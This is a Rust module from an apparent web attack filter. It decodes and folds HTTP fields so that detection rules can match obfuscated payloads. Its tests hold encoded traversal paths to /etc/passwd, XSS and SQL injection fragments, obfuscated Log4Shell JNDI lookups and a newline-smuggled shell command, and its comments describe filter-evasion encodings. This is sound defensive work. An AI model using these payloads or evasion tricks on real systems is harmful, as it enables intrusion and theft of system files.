//! Normalization: undo the encodings attackers use to hide a payload from pattern matching.
//!
//! [`normalize`] turns a raw field into the text the rules match on:
//!
//! 1. up to [`MAX_PASSES`] rounds of: percent-decoding (`%XX`, IIS `%uXXXX`; `+` as space in the
//!    first round of query/form/cookie values), HTML entities (`&lt;`, `&#60;`, `&#x3c;`, with or
//!    without `;`), and backslash escapes (`\xXX`, `\uXXXX`, `\u{X..}`, `\/`; `\n`, `\r`, `\t`
//!    outside paths), until nothing changes;
//! 2. bytes to text, with overlong UTF-8 (`%c0%ae` for `.`) mapped to the ASCII it encodes and
//!    other invalid bytes dropped; slash look-alikes (`∕`, IIS best-fit code points) to `/`;
//! 3. case folding (ASCII and Unicode lowercase, full-width forms to ASCII), whitespace runs
//!    (tab, NBSP, ...) to one space, or one `\n` when the run holds a line break (a shell
//!    command separator), zero-width characters dropped, backslashes to `/` in paths;
//! 4. in paths, runs of `/` made one and `.` segments removed (`..` is kept for the traversal
//!    rules; a `//` that starts a URL, as in `=//x` or `http://x`, stays).
//!
//! [`strip_sql_comments`] gives the variant with `/* .. */` comments replaced by a space, used
//! when a text holds `/*`.

use crate::http::hex_digit;

/// Most decoding rounds (double and triple encoding are common; more is noise).
pub const MAX_PASSES: usize = 4;

/// How a field is encoded on the wire.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flavor {
    /// Query/form/cookie value: `+` means space.
    Form,
    /// URL path: backslashes are path separators.
    Path,
    /// Anything else (headers, JSON strings, raw bodies).
    Plain,
}

/// Normalize `input` into `out` (cleared first). See the module documentation.
pub fn normalize(input: &[u8], flavor: Flavor, out: &mut String) {
    out.clear();
    let needs_decode = input
        .iter()
        .any(|&b| matches!(b, b'%' | b'&' | b'\\' | b'+'));
    if needs_decode {
        fold_into(&decode(input, flavor), flavor, out);
    } else {
        fold_into(input, flavor, out);
    }
    if flavor == Flavor::Path {
        squeeze_path(out);
    }
}

/// Up to [`MAX_PASSES`] rounds of percent, entity and backslash decoding.
fn decode(input: &[u8], flavor: Flavor) -> Vec<u8> {
    let mut cur = input.to_vec();
    let mut next = Vec::with_capacity(cur.len());
    for pass in 0..MAX_PASSES {
        let mut changed = percent_decode(&cur, flavor == Flavor::Form && pass == 0, &mut next);
        std::mem::swap(&mut cur, &mut next);
        changed |= html_entities(&cur, &mut next);
        std::mem::swap(&mut cur, &mut next);
        changed |= backslash_escapes(&cur, flavor == Flavor::Path, &mut next);
        std::mem::swap(&mut cur, &mut next);
        if !changed {
            break;
        }
    }
    cur
}

/// In a (decoded, folded) URL path: a run of `/` becomes one and `.` segments go, so
/// `//.git//config` and `/.git/./config` read `/.git/config`. `..` segments stay (the traversal
/// rules need them). A run of `/` that starts a URL (after `:`, `=`, `(`, a quote or a space:
/// `http://x`, `src=//x`) is kept as it is.
fn squeeze_path(path: &mut String) {
    let b = path.as_bytes();
    let dot_segment =
        |i: usize| b.get(i + 1) == Some(&b'.') && matches!(b.get(i + 2), None | Some(b'/'));
    if !(0..b.len()).any(|i| b[i] == b'/' && (b.get(i + 1) == Some(&b'/') || dot_segment(i))) {
        return;
    }
    let mut out = String::with_capacity(path.len());
    let mut from = 0;
    while let Some(p) = path[from..].find('/') {
        let slash = from + p;
        // Everything up to and including this `/` (cuts are next to ASCII: char boundaries).
        out.push_str(&path[from..=slash]);
        let starts_url = slash > 0
            && matches!(
                b[slash - 1],
                b':' | b'=' | b'(' | b'\'' | b'"' | b'`' | b' ' | b'\n'
            );
        let mut next = slash + 1;
        loop {
            match (b.get(next), b.get(next + 1)) {
                (Some(b'/'), _) if !starts_url => next += 1,
                (Some(b'.'), None) => next += 1,
                (Some(b'.'), Some(b'/')) => next += 2,
                _ => break,
            }
        }
        from = next;
    }
    out.push_str(&path[from..]);
    *path = out;
}

fn push_char(out: &mut Vec<u8>, cp: u32) {
    let c = char::from_u32(cp).unwrap_or('\u{FFFD}');
    let mut tmp = [0u8; 4];
    out.extend_from_slice(c.encode_utf8(&mut tmp).as_bytes());
}

fn percent_decode(input: &[u8], plus: bool, out: &mut Vec<u8>) -> bool {
    out.clear();
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%' {
            if let (Some(h), Some(l)) = (
                input.get(i + 1).copied().and_then(hex_digit),
                input.get(i + 2).copied().and_then(hex_digit),
            ) {
                out.push(h << 4 | l);
                i += 3;
                changed = true;
                continue;
            }
            if matches!(input.get(i + 1), Some(b'u' | b'U'))
                && let Some(cp) = input.get(i + 2..i + 6).and_then(crate::http::hex4)
            {
                push_char(out, cp);
                i += 6;
                changed = true;
                continue;
            }
        } else if b == b'+' && plus {
            out.push(b' ');
            i += 1;
            changed = true;
            continue;
        }
        out.push(b);
        i += 1;
    }
    changed
}

/// Named entities worth decoding (the ones that spell markup, quotes, separators).
const ENTITIES: &[(&[u8], &[u8])] = &[
    (b"lt", b"<"),
    (b"gt", b">"),
    (b"quot", b"\""),
    (b"apos", b"'"),
    (b"amp", b"&"),
    (b"colon", b":"),
    (b"sol", b"/"),
    (b"bsol", b"\\"),
    (b"lpar", b"("),
    (b"rpar", b")"),
    (b"semi", b";"),
    (b"equals", b"="),
    (b"tab", b"\t"),
    (b"newline", b"\n"),
    (b"nbsp", b" "),
    (b"period", b"."),
    (b"comma", b","),
    (b"excl", b"!"),
    (b"grave", b"`"),
    (b"lbrace", b"{"),
    (b"rbrace", b"}"),
    (b"lsqb", b"["),
    (b"rsqb", b"]"),
    (b"dollar", b"$"),
    (b"num", b"#"),
    (b"percnt", b"%"),
    (b"plus", b"+"),
    (b"ast", b"*"),
    (b"vert", b"|"),
];

fn html_entities(input: &[u8], out: &mut Vec<u8>) -> bool {
    out.clear();
    if memchr::memchr(b'&', input).is_none() {
        out.extend_from_slice(input);
        return false;
    }
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        if input[i] == b'&' {
            if let Some((bytes_used, cp)) = numeric_entity(&input[i + 1..]) {
                push_char(out, cp);
                i += 1 + bytes_used;
                changed = true;
                continue;
            }
            let rest = &input[i + 1..];
            if let Some((name, val)) = ENTITIES.iter().find(|(name, _)| {
                rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name)
            }) {
                let mut used = name.len();
                if rest.get(used) == Some(&b';') {
                    used += 1;
                } else if rest.get(used).is_some_and(|b| b.is_ascii_alphanumeric()) {
                    // `&ltx` is not an entity; `&amp` in query strings (`&ampersand`) neither.
                    out.push(b'&');
                    i += 1;
                    continue;
                }
                out.extend_from_slice(val);
                i += 1 + used;
                changed = true;
                continue;
            }
        }
        out.push(input[i]);
        i += 1;
    }
    changed
}

/// `#60;`, `#x3c;`, `#0000060` (the `;` is optional). Returns bytes used and the code point.
fn numeric_entity(s: &[u8]) -> Option<(usize, u32)> {
    if s.first() != Some(&b'#') {
        return None;
    }
    let (radix, start) = match s.get(1) {
        Some(b'x' | b'X') => (16, 2),
        _ => (10, 1),
    };
    let mut end = start;
    let mut v: u32 = 0;
    while let Some(&b) = s.get(end) {
        let Some(d) = (b as char).to_digit(radix) else {
            break;
        };
        v = v.saturating_mul(radix).saturating_add(d);
        end += 1;
        if end - start > 10 {
            return None;
        }
    }
    if end == start || v > 0x10FFFF {
        return None;
    }
    if s.get(end) == Some(&b';') {
        end += 1;
    }
    Some((end, v))
}

fn backslash_escapes(input: &[u8], path: bool, out: &mut Vec<u8>) -> bool {
    out.clear();
    if memchr::memchr(b'\\', input).is_none() {
        out.extend_from_slice(input);
        return false;
    }
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        if input[i] == b'\\' {
            match input.get(i + 1) {
                Some(b'x' | b'X') => {
                    if let (Some(h), Some(l)) = (
                        input.get(i + 2).copied().and_then(hex_digit),
                        input.get(i + 3).copied().and_then(hex_digit),
                    ) {
                        out.push(h << 4 | l);
                        i += 4;
                        changed = true;
                        continue;
                    }
                }
                Some(b'u' | b'U') => {
                    if input.get(i + 2) == Some(&b'{') {
                        let digits = &input[(i + 3).min(input.len())..];
                        let n = digits.iter().take_while(|b| b.is_ascii_hexdigit()).count();
                        if (1..=6).contains(&n) && digits.get(n) == Some(&b'}') {
                            let cp = digits[..n]
                                .iter()
                                .fold(0u32, |a, &b| a * 16 + u32::from(hex_digit(b).unwrap_or(0)));
                            push_char(out, cp);
                            i += 3 + n + 1;
                            changed = true;
                            continue;
                        }
                    } else if let Some(cp) = input.get(i + 2..i + 6).and_then(crate::http::hex4) {
                        push_char(out, cp);
                        i += 6;
                        changed = true;
                        continue;
                    }
                }
                Some(b'/') => {
                    out.push(b'/');
                    i += 2;
                    changed = true;
                    continue;
                }
                Some(&e @ (b'n' | b'r' | b't')) if !path => {
                    out.push(match e {
                        b'n' => b'\n',
                        b'r' => b'\r',
                        _ => b'\t',
                    });
                    i += 2;
                    changed = true;
                    continue;
                }
                _ => {}
            }
        }
        out.push(input[i]);
        i += 1;
    }
    changed
}

/// Bytes to folded text. ASCII takes a fast path; other bytes go through a lossy UTF-8 decode
/// that maps overlong 2- and 3-byte encodings of ASCII to the ASCII they encode.
fn fold_into(input: &[u8], flavor: Flavor, out: &mut String) {
    out.reserve(input.len());
    let mut last_space = false;
    let push = |c: char, out: &mut String, last_space: &mut bool| {
        let c = match c {
            '\n' | '\r' => '\n',
            '\t'
            | '\u{0b}'
            | '\u{0c}'
            | '\u{a0}'
            | '\u{85}'
            | '\u{2000}'..='\u{200a}'
            | '\u{2028}'
            | '\u{2029}'
            | '\u{202f}'
            | '\u{205f}'
            | '\u{3000}' => ' ',
            '\u{200b}'..='\u{200d}' | '\u{feff}' | '\u{ad}' => return,
            '\\' if flavor == Flavor::Path => '/',
            // Slash and backslash look-alikes that IIS and others map to the real thing.
            '\u{2215}' | '\u{2044}' | '\u{29f8}' | '\u{efc8}' | '\u{f025}' => '/',
            '\u{2216}' | '\u{fe68}' | '\u{29f9}' => '\\',
            // Circled letters.
            '\u{24b6}'..='\u{24cf}' => char::from_u32(c as u32 - 0x24b6 + 'a' as u32).unwrap_or(c),
            '\u{24d0}'..='\u{24e9}' => char::from_u32(c as u32 - 0x24d0 + 'a' as u32).unwrap_or(c),
            '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xFEE0)
                .unwrap_or(c)
                .to_ascii_lowercase(),
            c if c.is_ascii() => c.to_ascii_lowercase(),
            c => {
                for l in c.to_lowercase() {
                    out.push(l);
                }
                *last_space = false;
                return;
            }
        };
        if c == ' ' || c == '\n' {
            if *last_space {
                // One separator per run; a newline wins (it separates shell commands).
                if c == '\n' && out.ends_with(' ') {
                    out.pop();
                    out.push('\n');
                }
                return;
            }
            *last_space = true;
        } else {
            *last_space = false;
        }
        out.push(c);
    };
    // Bytes that fold to themselves lowercased, with no separator or path handling: the bulk
    // of real traffic, copied a run at a time instead of a char at a time.
    let plain = |b: u8| b > b' ' && b < 0x7f && (b != b'\\' || flavor != Flavor::Path);
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if plain(b) {
            let start = i;
            while i < input.len() && plain(input[i]) {
                i += 1;
            }
            let from = out.len();
            // ASCII only, so always valid UTF-8.
            out.push_str(std::str::from_utf8(&input[start..i]).unwrap_or_default());
            if let Some(run) = out.get_mut(from..) {
                run.make_ascii_lowercase();
            }
            last_space = false;
            continue;
        }
        if b < 0x80 {
            push(b as char, out, &mut last_space);
            i += 1;
            continue;
        }
        // Overlong encodings of ASCII.
        if (b == 0xC0 || b == 0xC1)
            && let Some(&b2) = input.get(i + 1)
            && b2 & 0xC0 == 0x80
        {
            push(
                (((b & 0x1F) << 6) | (b2 & 0x3F)) as char,
                out,
                &mut last_space,
            );
            i += 2;
            continue;
        }
        if b == 0xE0
            && let (Some(&b2), Some(&b3)) = (input.get(i + 1), input.get(i + 2))
            && b2 & 0xE0 == 0x80
            && b3 & 0xC0 == 0x80
        {
            let cp = (u32::from(b2 & 0x3F) << 6) | u32::from(b3 & 0x3F);
            push(
                char::from_u32(cp).unwrap_or('\u{FFFD}'),
                out,
                &mut last_space,
            );
            i += 3;
            continue;
        }
        let len = match b {
            0xC2..=0xDF => 2,
            0xE0..=0xEF => 3,
            0xF0..=0xF4 => 4,
            _ => 1,
        };
        match input
            .get(i..i + len)
            .and_then(|s| std::str::from_utf8(s).ok())
        {
            Some(s) => {
                for c in s.chars() {
                    push(c, out, &mut last_space);
                }
                i += len;
            }
            None => {
                // Invalid byte: dropped, so it cannot split a keyword (`..%c0/`, `sel%ffect`).
                i += 1;
            }
        }
    }
}

/// `text` with SQL comments replaced by a space: `/* .. */` (MySQL `/*!50000 .. */` keeps its
/// content) and a trailing `-- `/`#` comment is left as is. Returns None when there is no `/*`.
pub fn strip_sql_comments(text: &str, out: &mut String) -> bool {
    if !text.contains("/*") {
        return false;
    }
    out.clear();
    let mut rest = text;
    while let Some(i) = rest.find("/*") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        if let Some(body) = after.strip_prefix('!') {
            // Versioned comment: its content is executed.
            let digits = body.bytes().take_while(u8::is_ascii_digit).count();
            out.push(' ');
            rest = &body[digits..];
            continue;
        }
        match after.find("*/") {
            Some(j) => {
                out.push(' ');
                rest = &after[j + 2..];
            }
            None => {
                out.push(' ');
                rest = "";
            }
        }
    }
    out.push_str(rest);
    // A stray `*/` closing a versioned comment.
    if out.contains("*/") {
        *out = out.replace("*/", " ");
    }
    // Collapse the spaces the comments left.
    let mut collapsed = String::with_capacity(out.len());
    let mut last_space = false;
    for c in out.chars() {
        if c == ' ' {
            if last_space {
                continue;
            }
            last_space = true;
        } else {
            last_space = false;
        }
        collapsed.push(c);
    }
    *out = collapsed;
    true
}

/// `text` with Log4j-style lookups resolved the way an obfuscator means them: `${lower:x}` and
/// `${upper:x}` give `x`, `${anything:-x}` (a default value) gives `x`, `${date:'x'}` gives `x`;
/// other lookups (`${jndi:..}`, `${env:HOME}`) stay as written, with their inside resolved.
/// Returns false (and leaves `out` untouched) when there is no `${`.
pub fn resolve_lookups(text: &str, out: &mut String) -> bool {
    if !text.contains("${") {
        return false;
    }
    out.clear();
    let mut stack: Vec<String> = Vec::new();
    let mut chars = text.char_indices().peekable();
    while let Some((_, c)) = chars.next() {
        if c == '$' && chars.peek().map(|&(_, n)| n) == Some('{') {
            chars.next();
            stack.push(String::new());
            continue;
        }
        if c == '}'
            && let Some(inner) = stack.pop()
        {
            let top = stack.last_mut().unwrap_or(out);
            apply_lookup(&inner, top);
            continue;
        }
        stack.last_mut().unwrap_or(out).push(c);
    }
    // Unclosed lookups: keep them as written.
    for inner in stack {
        out.push_str("${");
        out.push_str(&inner);
    }
    true
}

fn apply_lookup(inner: &str, out: &mut String) {
    if let Some(i) = inner.find(":-") {
        out.push_str(&inner[i + 2..]);
        return;
    }
    for prefix in ["lower:", "upper:"] {
        if let Some(rest) = inner.strip_prefix(prefix) {
            out.push_str(rest);
            return;
        }
    }
    if let Some(rest) = inner.strip_prefix("date:") {
        out.push_str(rest.trim_matches('\''));
        return;
    }
    out.push_str("${");
    out.push_str(inner);
    out.push('}');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(s: &str, f: Flavor) -> String {
        let mut out = String::new();
        normalize(s.as_bytes(), f, &mut out);
        out
    }

    #[test]
    fn percent_multi_pass_and_plus() {
        assert_eq!(n("%252e%252e%252fetc", Flavor::Path), "../etc");
        assert_eq!(n("a+b%2Bc", Flavor::Form), "a b+c");
        assert_eq!(n("a+b", Flavor::Plain), "a+b");
        assert_eq!(n("%u003cscript%u003e", Flavor::Plain), "<script>");
        assert_eq!(n("100%", Flavor::Form), "100%");
        assert_eq!(n("%zz%4", Flavor::Form), "%zz%4");
    }

    #[test]
    fn entities() {
        assert_eq!(n("&lt;img src=x&gt;", Flavor::Plain), "<img src=x>");
        assert_eq!(n("&#60;&#x3C;&#0000060", Flavor::Plain), "<<<");
        assert_eq!(n("java&Tab;script&colon;", Flavor::Plain), "java script:");
        assert_eq!(n("a&ltb", Flavor::Plain), "a&ltb");
        assert_eq!(n("&ampersand", Flavor::Plain), "&ampersand");
        assert_eq!(n("%26lt;svg", Flavor::Form), "<svg");
    }

    #[test]
    fn backslash() {
        assert_eq!(n(r"\x3cscript\u003e", Flavor::Plain), "<script>");
        assert_eq!(n(r"\u{6a}ndi", Flavor::Plain), "jndi");
        assert_eq!(n(r"http:\/\/x", Flavor::Plain), "http://x");
        assert_eq!(n(r"..\..\win.ini", Flavor::Path), "../../win.ini");
        assert_eq!(n(r"C:\x", Flavor::Plain), r"c:\x");
    }

    #[test]
    fn folding() {
        assert_eq!(n("UNION\t  SELECT", Flavor::Plain), "union select");
        assert_eq!(n("a \r\n b\n\nc", Flavor::Plain), "a\nb\nc");
        assert_eq!(n("ＳＥＬＥＣＴ", Flavor::Plain), "select");
        assert_eq!(n("%c0%ae%c0%ae%c0%af", Flavor::Path), "../");
        assert_eq!(n("%e0%80%ae", Flavor::Path), ".");
        assert_eq!(n("Straße", Flavor::Plain), "straße");
        assert_eq!(n("\u{200b}sel\u{feff}ect", Flavor::Plain), "select");
        assert_eq!(n("\u{fffd}%ff", Flavor::Plain), "\u{fffd}");
        assert_eq!(n("..%c0%2f..%c0%2fetc", Flavor::Path), "../../etc");
        assert_eq!(n("..%25u2215..%u2216x", Flavor::Plain), "../..\\x");
        assert_eq!(n("ⓔⓧⓐⓜⓟⓛⓔ", Flavor::Plain), "example");
        assert_eq!(n("%5Cn/bin/ls", Flavor::Form), "\n/bin/ls");
    }

    #[test]
    fn path_slashes_and_dot_segments() {
        for (raw, want) in [
            ("/.git/./config", "/.git/config"),
            ("//.git//config", "/.git/config"),
            ("/.git/././/config", "/.git/config"),
            ("/.git/%2e/config", "/.git/config"),
            ("/.git%2f%2fconfig", "/.git/config"),
            (r"\.git\.\config", "/.git/config"),
            ("/a/.", "/a/"),
            ("/a//", "/a/"),
            ("/", "/"),
            ("", ""),
            ("/.well-known/x", "/.well-known/x"),
            ("/a/.b/c.", "/a/.b/c."),
            ("/a/...//b", "/a/.../b"),
            // `..` stays for the traversal rules; only `.` and empty segments go.
            ("/a/./../..//etc/passwd", "/a/../../etc/passwd"),
            ("/%2e%2e//%2e%2e/x", "/../../x"),
            // A URL inside the path keeps its `//`.
            ("/go/http://x//y", "/go/http://x/y"),
            ("/x?u=//evil/a", "/x?u=//evil/a"),
            ("/${jndi:ldap://x/a}", "/${jndi:ldap://x/a}"),
            ("/é//ü/./ß", "/é/ü/ß"),
        ] {
            assert_eq!(n(raw, Flavor::Path), want, "{raw:?}");
        }
        // Only paths: other fields keep their slashes.
        assert_eq!(n("a//b/./c", Flavor::Form), "a//b/./c");
        assert_eq!(n("a//b/./c", Flavor::Plain), "a//b/./c");
    }

    #[test]
    fn log4j_lookups() {
        let r = |s: &str| {
            let mut out = String::new();
            assert!(resolve_lookups(s, &mut out));
            out
        };
        assert_eq!(r("${${lower:j}ndi:ldap://x/a}"), "${jndi:ldap://x/a}");
        assert_eq!(
            r("${${::-j}${::-n}${::-d}${::-i}:rmi://x}"),
            "${jndi:rmi://x}"
        );
        assert_eq!(
            r("${${env:bar:-j}ndi${env:bar:-:}${lower:l}dap://x}"),
            "${jndi:ldap://x}"
        );
        assert_eq!(r("${jndi:${date:'l'}dap://x"), "${jndi:ldap://x");
        assert_eq!(r("hello ${name}"), "hello ${name}");
        assert_eq!(r("}}${"), "}}${");
    }

    #[test]
    fn sql_comments() {
        let mut out = String::new();
        assert!(strip_sql_comments("1/**/union/**/select", &mut out));
        assert_eq!(out, "1 union select");
        assert!(strip_sql_comments("/*!50000union*/ /*!select*/", &mut out));
        assert_eq!(out, " union select ");
        assert!(strip_sql_comments("x/*unterminated", &mut out));
        assert_eq!(out, "x ");
        assert!(!strip_sql_comments("no comment", &mut out));
    }
}
